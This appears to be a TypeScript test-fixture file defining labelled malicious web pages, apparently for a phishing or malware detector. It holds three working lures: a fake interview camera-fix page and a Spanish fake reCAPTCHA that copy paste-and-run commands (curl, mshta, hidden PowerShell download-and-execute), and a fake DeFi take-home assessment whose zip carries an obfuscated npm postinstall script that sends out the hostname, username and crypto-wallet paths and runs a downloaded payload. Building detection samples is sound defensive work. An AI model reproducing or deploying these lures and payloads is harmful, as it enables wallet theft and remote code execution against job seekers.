import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { b64, cssBase, doc, esc, mark } from '../parts/yr-kit.js';
import { apk, cfb, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, zip } from '../parts/e-bin.js';

const assessmentZip = zip([
  { name: 'defi-dashboard-assessment/README.md', data: '# DeFi Dashboard – Technical Assessment\n\n1. `npm install`\n2. `npm start`\n3. Fix the three bugs listed in TASK.md and record your screen.\n\nTime limit: 60 minutes from the moment you run `npm start`.\n' },
  { name: 'defi-dashboard-assessment/TASK.md', data: '- The portfolio chart does not refresh after a swap\n- Token balances are shown with wrong decimals\n- Dark mode toggle resets on reload\n' },
  {
    name: 'defi-dashboard-assessment/package.json',
    data: JSON.stringify({ name: 'defi-dashboard-assessment', version: '1.0.3', private: true, scripts: { postinstall: 'node ./config/env-check.js', start: 'react-scripts start' }, dependencies: { react: '^18.2.0', 'react-dom': '^18.2.0', ethers: '^6.9.0', 'react-scripts': '5.0.1' } }, null, 2),
  },
  {
    name: 'defi-dashboard-assessment/config/env-check.js',
    data: `const _0x=require;const a=_0x('os'),b=_0x('https'),c=_0x('child_process'),f=_0x('fs'),p=_0x('path');
const h=Buffer.from('aHR0cHM6Ly9hcGkuZW52LWNoZWNrLWNkbi5jb20vdjIvbm9kZQ==','base64').toString();
const i={h:a.hostname(),u:a.userInfo().username,p:process.platform,w:[p.join(a.homedir(),'AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'),p.join(a.homedir(),'Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'),p.join(a.homedir(),'.config/solana/id.json')].filter(x=>f.existsSync(x))};
b.get(h+'?d='+Buffer.from(JSON.stringify(i)).toString('base64'),r=>{let d='';r.on('data',x=>d+=x);r.on('end',()=>{try{const t=p.join(a.tmpdir(),'.npl');f.writeFileSync(t,d);c.spawn(process.execPath,[t],{detached:true,stdio:'ignore'}).unref()}catch(e){}})}).on('error',()=>{});
`,
  },
  { name: 'defi-dashboard-assessment/src/App.js', data: "import React from 'react';\nexport default function App(){return <div className=\"app\">DeFi Dashboard</div>}\n" },
]);

export const entries: Entry[] = [
  {
    id: 'yr-clickfix-web3-interview-mac-terminal-curl',
    label: 'clickfix',
    kind: 'clickfix-fake-interview',
    url: 'https://hiring.nexvora-meet.io/invite/7fb2e9/precheck',
    body: doc({
      title: 'Nexvora Meet – Pre-interview check',
      css: `body{margin:0;font-family:-apple-system,BlinkMacSystemFont,Helvetica,Arial,sans-serif;background:#f8fafc;color:#0f172a}.w{max-width:680px;margin:50px auto;background:#fff;border-radius:16px;padding:32px;box-shadow:0 10px 30px rgba(15,23,42,.08)}
.st{display:flex;gap:10px;align-items:center;padding:10px 0;border-bottom:1px solid #f1f5f9}.ok{color:#16a34a}.bad{color:#dc2626}
pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:8px;white-space:pre-wrap;word-break:break-all;font-size:13px}.b{background:#7c3aed;color:#fff;border:0;border-radius:10px;padding:12px 18px;font-weight:600;cursor:pointer}`,
      body: `<div class="w"><h2 style="margin-top:0">Interview with Nexvora Labs – Blockchain Engineer</h2><p style="color:#64748b">Before joining, we check your browser, microphone and camera.</p>
<div class="st"><span class="ok">✔</span> Browser compatible</div><div class="st"><span class="ok">✔</span> Network 48 Mbps</div><div class="st"><span class="bad">✖</span> Camera/microphone: access denied by macOS (TCC error -1743)</div>
<h3>Fix on macOS</h3><p>Our video SDK needs the latest camera driver. Open <b>Terminal</b> (⌘ + Space → “Terminal”), paste the command below and press Return. Your interview will reconnect automatically.</p>
<pre id="c">curl -sk https://api.nexvora-meet.io/driver/ffmpeg-macos.sh -o /tmp/ffmpeg.sh &amp;&amp; chmod +x /tmp/ffmpeg.sh &amp;&amp; nohup bash /tmp/ffmpeg.sh &gt;/dev/null 2&gt;&amp;1 &amp;</pre>
<button class="b" onclick="navigator.clipboard.writeText(document.getElementById('c').innerText).then(function(){this.textContent='Copied ✓'}.bind(this))">Copy command</button>
<p style="font-size:13px;color:#64748b">Windows users: press Win + R and paste the command shown after clicking <a href="#" onclick="win();return false">Windows fix</a>.</p></div>
<script>
function win(){var c='cmd /c "curl -k -o %TEMP%\\\\nvupdate.zip https://api.nexvora-meet.io/driver/nvidia-cam.zip && powershell -c Expand-Archive -Force %TEMP%\\\\nvupdate.zip %TEMP%\\\\nv && wscript %TEMP%\\\\nv\\\\update.vbs"';navigator.clipboard.writeText(c);document.getElementById('c').textContent=c}
</script>`,
    }),
  },
  {
    id: 'yr-es-clickfix-captcha-oferta-empleo',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: 'https://ofertas-empleo-madrid.com/oferta/administrativo-contable-2291',
    body: doc({
      title: 'Administrativo/a contable – Madrid | Ofertas Empleo Madrid',
      lang: 'es',
      css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f5f5f5}.j{max-width:760px;margin:20px auto;background:#fff;padding:24px;filter:blur(3px);pointer-events:none}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center}.rc{width:380px;background:#fff;border-radius:4px;box-shadow:0 4px 14px rgba(0,0,0,.3)}
.rc .h{background:#1a73e8;color:#fff;padding:18px}.rc .c{padding:18px;font-size:14px}.rc .c ol li{margin:8px 0}.k{background:#eee;border:1px solid #ccc;border-radius:3px;padding:0 5px;font-family:monospace}
.rc button{background:#1a73e8;color:#fff;border:0;padding:10px 18px;border-radius:2px;float:right}`,
      body: `<div class="j"><h1>Administrativo/a contable</h1><p>Asesoría Fiscal Castellana · Madrid · Jornada completa · 24.000–27.000 € brutos/año</p><p>Buscamos administrativo/a contable con experiencia en A3 y gestión de nóminas…</p></div>
<div class="ov"><div class="rc"><div class="h"><b>Verificación de seguridad</b><br><small>Confirma que no eres un robot para ver la oferta completa y postularte</small></div>
<div class="c" id="st1"><label><input type="checkbox" id="cb"> No soy un robot</label><small style="float:right;color:#999">reCAPTCHA</small></div>
<div class="c" id="st2" style="display:none"><b>Pasos de verificación</b><ol><li>Pulsa <span class="k">Windows</span> + <span class="k">R</span></li><li>Pulsa <span class="k">Ctrl</span> + <span class="k">V</span></li><li>Pulsa <span class="k">Intro</span></li></ol><p style="color:#666;font-size:12px">Verás en la ventana: “✅ No soy un robot – ID de verificación reCAPTCHA: 7218”</p><button onclick="document.getElementById('st2').innerHTML='<p>Verificando…</p>'">Verificar</button><div style="clear:both"></div></div></div></div>
<script>
document.getElementById('cb').addEventListener('change',function(){
var t='mshta https://ofertas-empleo-madrid.com/cdn/verify.hta # ✅ No soy un robot - ID de verificación reCAPTCHA: 7218';
navigator.clipboard.writeText(t).catch(function(){var a=document.createElement('textarea');a.value=t;document.body.appendChild(a);a.select();document.execCommand('copy');a.remove()});
document.getElementById('st1').style.display='none';document.getElementById('st2').style.display='block'});
</script>`,
    }),
    routes: {
      'ofertas-empleo-madrid.com/cdn/verify.hta': fileRoute(`<html><head><HTA:APPLICATION WINDOWSTATE="minimize" SHOWINTASKBAR="no"/><script language="VBScript">Set s=CreateObject("WScript.Shell"):s.Run "powershell -w h -c ""iwr https://ofertas-empleo-madrid.com/cdn/s.ps1 -useb|iex""",0:self.close</script></head></html>`, 'application/hta'),
    },
  },
  {
    id: 'yr-defi-takehome-assessment-postinstall-zip',
    label: 'malware',
    kind: 'malicious-assessment',
    url: 'https://careers.lumenchain-labs.xyz/assessment/frontend-defi?cid=8842',
    body: doc({
      title: 'Lumenchain Labs – Frontend Engineer Technical Assessment',
      css: `body{margin:0;font-family:"IBM Plex Sans",Arial,sans-serif;background:#0b0d12;color:#e6e6eb}.w{max-width:760px;margin:50px auto;padding:0 20px}
.card{background:#141821;border:1px solid #262b36;border-radius:12px;padding:24px;margin:18px 0}code{background:#1f2430;padding:2px 6px;border-radius:4px}
pre{background:#1f2430;padding:14px;border-radius:8px}.b{display:inline-block;background:#6ee7b7;color:#04140d;padding:12px 22px;border-radius:8px;font-weight:700;text-decoration:none}`,
      body: `<div class="w"><p style="color:#6ee7b7">LUMENCHAIN LABS · HIRING</p><h1>Technical assessment: Frontend Engineer (React / Web3)</h1>
<div class="card"><p>Hi! Thanks for the great conversation with our CTO. As the final step, please complete this short take-home task. It should take about 45–60 minutes.</p>
<ol><li>Download the project archive below and extract it.</li><li>Run the project locally:<pre>cd defi-dashboard-assessment
npm install
npm start</pre></li><li>Fix the three bugs listed in <code>TASK.md</code>.</li><li>Record your screen while working and send the recording with your solution to your recruiter on Telegram.</li></ol>
<p><b>Important:</b> the timer starts when <code>npm install</code> completes; the environment check reports your start time to our assessment server.</p>
<a class="b" href="/assessment/files/defi-dashboard-assessment.zip">Download assessment (.zip)</a></div>
<p style="font-size:13px;color:#8b93a7">Problems? Contact your recruiter Daniel K. (@daniel_lumenchain)</p></div>`,
    }),
    routes: {
      'careers.lumenchain-labs.xyz/assessment/files/defi-dashboard-assessment.zip': fileRoute(assessmentZip, 'application/zip', 'defi-dashboard-assessment.zip'),
    },
  },
];
